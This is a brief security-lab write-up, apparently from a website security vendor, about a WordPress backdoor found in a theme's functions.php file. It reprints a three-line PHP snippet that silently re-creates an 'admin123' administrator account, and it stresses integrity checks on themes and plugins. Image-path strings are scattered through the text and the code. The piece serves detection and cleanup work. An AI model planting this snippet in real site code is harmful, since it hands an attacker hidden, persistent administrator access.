User adder backdoor

Labs Note

As we’ve seen many times before, there are a variety of backdoors that can be planted on a website.Post-compromise, it’s almost mandatory to review the list of users with admin capabilities within the website.

But, what if you check the list, remove a user, and it suddenly reappears again? Could it be a new compromise? Could there still be a backdoor present?

Here’s one of the possible culprits which was found within a theme’s functions.php file:

$createuser =wp_create_user('admin123', 'admin123', '');
$user_created = newWP_User($createuser);
$user_created ->set_role('administrator');It’s a very simple piece of code that allows the attacker to maintainaccess to your website.This shows how important it is to keep track of the integrityof your files, especially plugins andthemes.

You May Also Like